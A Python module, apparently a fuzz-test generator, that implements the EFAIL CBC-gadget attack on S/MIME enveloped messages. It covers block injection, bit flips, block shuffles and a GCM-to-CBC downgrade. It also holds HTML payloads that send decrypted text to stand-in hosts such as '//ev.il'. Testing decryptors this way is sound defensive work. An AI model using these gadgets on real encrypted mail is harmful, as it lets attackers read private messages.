"""EFAIL's CBC gadgets (CVE-2017-17689): whoever knows the first block of a letter writes into it without its key.

A block of ciphertext C that is known to decrypt, after the block before it, to P gives `wanted` after the block
(before xor P xor wanted): so each pair is sixteen bytes of noise, then sixteen of the attacker's choice.

Promises: from one closed letter, letters with markup that sends the rest of the text away, at every place between its
blocks; the noise hides in attributes. Does not: know the key, nor anything of the text but its first block.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from certs import algorithms, ber, enveloped
from tests.fuzz import surgery

BLOCK = 16
KNOWN = b"Content-Type: te"
"""What most letters begin with: text/plain or text/html."""
AES_256_CBC = "2.16.840.1.101.3.4.1.42"

MARKUP: dict[str, tuple[bytes, ...]] = {
    # Chosen blocks, with noise before each. The last opens an attribute that swallows what follows.
    "image": (b'<img ignore="   ', b'" src="//ev.il/?'),
    "style": (b"<style>/*       ", b"*/ @import'//ev?"),
    "link": (b'<link x="       ', b'" rel=prefetch  ', b' href="//ev.il/?'),
    "form": (b'<form x="       ', b'" action="//ev">', b"<textarea name=a"),
    "script": (b"<script>/*      ", b"*/location='//e/"),
    "refresh": (b'<meta x="       ', b'" http-equiv=re ', b'fresh content="/'),
    "part": (b"\r\n--b\r\n\r\n<!--   ", b'--><img src="//e'),
    "header": (b"\r\n\r\n<!--        ", b'--><base href="/'),
}
BEGINNINGS = (b"Content-Type: ap", b"<html> <script >", b"X-Pli-Verdict: v", b"From: a@b.c\r\n\r\n<")


@dataclass(frozen=True)
class Closed:
    """A letter under CBC, as anybody sees it."""

    message: bytes
    iv: bytes
    blocks: tuple[bytes, ...]
    known: bytes = KNOWN
    """What its first block says."""

    @staticmethod
    def of(message: bytes, known: bytes = KNOWN) -> Closed:
        read = enveloped.read(message)
        data = b"".join(read.pieces)
        blocks = tuple(data[at : at + BLOCK] for at in range(0, len(data), BLOCK))
        return Closed(message, enveloped.parameters(read.algorithm, bytes), blocks, known)

    def rewritten(self, iv: bytes, blocks: tuple[bytes, ...]) -> bytes:
        """The same message with another IV and other blocks; lengths follow."""
        (top,) = surgery.parse(self.message)
        for node in top.walk():
            if node.data == self.iv:
                node.data = iv
            elif node.tag == 0x80 and node.data == b"".join(self.blocks):
                node.data = b"".join(blocks)
        return top.written()

    def gadget(self, wanted: bytes) -> tuple[bytes, bytes]:
        """Two blocks that decrypt to noise and then to `wanted`, wherever they stand."""
        return _xor(_xor(self.iv, self.known), wanted), self.blocks[0]

    def begun(self, wanted: bytes) -> bytes:
        """The IV with which the letter begins with `wanted`: without any noise."""
        return _xor(_xor(self.iv, self.known), wanted)


def _xor(one: bytes, other: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(one, other, strict=True))


@dataclass(frozen=True)
class Gadget:
    name: str
    message: bytes
    chosen: tuple[bytes, ...]
    """What stands in the letter now, by the attacker's choice."""


def gadgets(closed: Closed) -> Iterator[Gadget]:
    """Every markup at every place, the first and the last included."""
    for name, chosen in MARKUP.items():
        pairs = tuple(block for wanted in chosen for block in closed.gadget(wanted))
        for place in range(1, len(closed.blocks)):
            blocks = (*closed.blocks[:place], *pairs, *closed.blocks[place:])
            yield Gadget(f"{name} after block {place}", closed.rewritten(closed.iv, blocks), chosen)
    for begin in (
        b"Content-Type: mu",
        b"Content-Type: ap",
        b"<html> <script >",
        b"X-Pli-Verdict: v",
        b"From: a@b.c\r\n\r\n<",
    ):
        yield Gadget(f"begins with {begin!r}", closed.rewritten(closed.begun(begin), closed.blocks), (begin,))


def flips(closed: Closed) -> Iterator[bytes]:
    """One bit of every block, the IV among them: the block after it changes where the attacker wants it to."""
    yield closed.rewritten(_xor(closed.iv, bytes(15) + b"\x01"), closed.blocks)
    for place, block in enumerate(closed.blocks):
        bit = bytes(place % BLOCK) + bytes([1 << place % 8]) + bytes(BLOCK - 1 - place % BLOCK)
        yield closed.rewritten(closed.iv, (*closed.blocks[:place], _xor(block, bit), *closed.blocks[place + 1 :]))


def shuffles(closed: Closed) -> Iterator[bytes]:
    """Blocks left out, doubled, turned round, and cut off at the end."""
    for place in range(len(closed.blocks)):
        before, after = closed.blocks[:place], closed.blocks[place:]
        yield closed.rewritten(closed.iv, (*before, *after[1:]))
        yield closed.rewritten(closed.iv, (*before, after[0], *after))
        yield closed.rewritten(closed.iv, (*after, *before))


def downgraded(message: bytes) -> bytes:
    """An AuthEnvelopedData under AES-256-GCM told as an EnvelopedData under AES-256-CBC: the same key, no tag."""
    read = enveloped.read(message)
    data = b"".join(read.pieces)
    even = data[: len(data) - len(data) % BLOCK] or bytes(BLOCK)
    identifier = ber.tlv(0x30, algorithms.oid(AES_256_CBC), ber.tlv(0x04, bytes(BLOCK)))
    described = ber.tlv(0x30, algorithms.oid(enveloped.DATA), identifier, ber.tlv(0x80, even))
    body = ber.tlv(0x30, b"\x02\x01\x02", ber.tlv(0x31, *read.recipients), described)
    return ber.tlv(0x30, algorithms.oid(enveloped.ENVELOPED), ber.tlv(0xA0, body))
